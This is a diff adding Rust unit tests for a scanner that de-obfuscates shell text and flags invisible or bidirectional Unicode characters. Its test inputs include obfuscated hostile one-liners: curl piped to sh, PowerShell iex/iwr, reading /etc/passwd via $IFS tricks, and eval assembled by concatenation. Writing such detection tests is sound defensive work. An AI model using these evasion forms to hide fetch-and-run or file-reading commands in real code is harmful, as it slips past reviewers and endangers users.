@@ -1,0 +1,122 @@
+use pretty_assertions::assert_eq;
+
+use super::*;
+
+fn shell(s: &str) -> String {
+    shell_normalize(&clean_invisible(s))
+}
+
+#[test]
+fn quote_splitting_is_undone() {
+    for (input, want) in [
+        ("c''url http://x | sh", "curl http://x | sh"),
+        ("c\"\"url http://x | sh", "curl http://x | sh"),
+        ("c\"u\"rl http://x | sh", "curl http://x | sh"),
+        ("cu'rl' http://x | b'a'sh", "curl http://x | bash"),
+        ("\"c\"url http://x", "curl http://x"),
+        ("c''u''r''l x", "curl x"),
+        ("curl x | 'sh'", "curl x | sh"),
+        ("curl x | \"bash\" -s", "curl x | bash -s"),
+    ] {
+        assert_eq!(shell(input), want, "{input}");
+    }
+}
+
+#[test]
+fn backslashes_backticks_and_concatenation_are_undone() {
+    assert_eq!(shell(r"c\url x | s\h"), "curl x | sh");
+    assert_eq!(shell(r"\curl x"), "curl x");
+    assert_eq!(shell("i`e`x (iwr x)"), "iex (iwr x)");
+    assert_eq!(
+        shell("& ('Invoke-'+'Expression') $x"),
+        "& ('Invoke-Expression') $x"
+    );
+    assert_eq!(shell("window[\"ev\" + \"al\"](x)"), "window[\"eval\"](x)");
+}
+
+#[test]
+fn ifs_and_empty_parameters_are_whitespace_or_nothing() {
+    assert_eq!(shell("curl${IFS}http://x|sh"), "curl http://x|sh");
+    assert_eq!(shell("curl$IFS'http://x'|sh"), "curl 'http://x'|sh");
+    assert_eq!(shell("cat${IFS%??}/etc/passwd"), "cat /etc/passwd");
+    assert_eq!(shell("cat$IFS$9/etc/passwd"), "cat /etc/passwd");
+    assert_eq!(shell("c$@url x"), "curl x");
+    assert_eq!(shell("cu${@}rl x"), "curl x");
+    // A positional parameter used as an argument is left alone.
+    assert_eq!(shell("echo $1 done"), "echo $1 done");
+}
+
+#[test]
+fn ansi_c_strings_are_decoded() {
+    assert_eq!(shell(r"$'\x63\x75\x72\x6c' x | sh"), "curl x | sh");
+    assert_eq!(shell(r"$'\143url' x"), "curl x");
+    assert_eq!(shell(r"$'\u0063url' x"), "curl x");
+    // A decoded newline stays on the line.
+    assert_eq!(shell("a $'x\\ny' b\nnext"), "a x y b\nnext");
+}
+
+#[test]
+fn invisible_characters_are_removed_and_tags_decoded() {
+    assert_eq!(
+        clean_invisible("c\u{200b}url x | s\u{200d}h"),
+        "curl x | sh"
+    );
+    assert_eq!(clean_invisible("a\u{202e}b\u{2066}c"), "abc");
+    assert_eq!(clean_invisible("soft\u{ad}hyphen"), "softhyphen");
+    let hidden: String = "hi"
+        .chars()
+        .map(|c| char::from_u32(0xE0000 + u32::from(c)).unwrap())
+        .collect();
+    assert_eq!(
+        clean_invisible(&format!("visible\u{E0001}{hidden}\u{E007F}")),
+        "visiblehi"
+    );
+    // Lines are kept.
+    assert_eq!(clean_invisible("a\u{200b}\nb\n").lines().count(), 2);
+    // Plain text is returned as is.
+    assert_eq!(clean_invisible("plain"), "plain");
+}
+
+#[test]
+fn invisible_findings_and_their_severity() {
+    assert_eq!(
+        find_invisible("ok\nc\u{200b}url\n"),
+        Some((1, Severity::Warn))
+    );
+    assert_eq!(
+        find_invisible("x\u{200b}\ny\nif (a \u{202e} b)\n"),
+        Some((2, Severity::Critical))
+    );
+    assert_eq!(
+        find_invisible("tag \u{E0069}\u{E0067}"),
+        Some((0, Severity::Critical))
+    );
+    // A BOM at the start, an emoji ZWJ sequence and right-to-left marks
+    // beside Hebrew are ordinary text.
+    assert_eq!(find_invisible("\u{feff}# Title\n"), None);
+    assert_eq!(find_invisible("family 👨\u{200d}👩\u{200d}👧\n"), None);
+    assert_eq!(find_invisible("שלום\u{200f} world\n"), None);
+    assert_eq!(find_invisible("plain text\n"), None);
+    // A joiner inside an ASCII word is not.
+    assert_eq!(find_invisible("c\u{200d}url"), Some((0, Severity::Warn)));
+}
+
+#[test]
+fn evidence_escapes_invisible_and_control_characters() {
+    assert_eq!(escape_invisible("c\u{200b}url"), "c\\u{200b}url");
+    assert_eq!(escape_invisible("a\u{202e}b"), "a\\u{202e}b");
+    assert_eq!(escape_invisible("\u{1b}[31mred"), "\\u{1b}[31mred");
+    assert_eq!(escape_invisible("tab\tok é"), "tab\tok é");
+}
+
+#[test]
+fn ordinary_code_is_left_alone() {
+    for line in [
+        "subprocess.run([\"git\", \"status\"], check=True)",
+        "const x = require('fs');",
+        "echo \"hello world\" > out.txt",
+        "it's a test, isn't it",
+    ] {
+        assert_eq!(shell(line), line, "{line}");
+    }
+}
